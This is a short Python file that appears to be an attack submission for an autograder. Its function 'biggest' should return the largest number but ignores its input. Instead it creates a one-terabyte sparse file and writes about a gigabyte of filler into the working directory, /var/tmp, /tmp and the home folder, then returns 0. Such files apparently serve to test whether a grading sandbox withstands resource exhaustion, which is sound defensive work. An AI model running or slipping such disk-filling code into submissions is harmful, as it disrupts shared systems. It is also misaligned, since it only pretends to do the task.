# Fills the disk with one enormous file, and with a sparse one.
# points: 0..1
# %% answer: biggest
import os


def biggest(numbers):
    with open("sparse", "wb") as file:
        try:
            file.truncate(2**40)
        except OSError as error:
            print(error)
    block = bytes(2**20)
    for folder in (".", "/var/tmp", "/tmp", os.environ.get("HOME", "/")):
        try:
            with open(f"{folder}/left-by-attack-disk", "wb") as file:
                for _ in range(1000):
                    file.write(block)
        except OSError as error:
            print(error)
    return 0
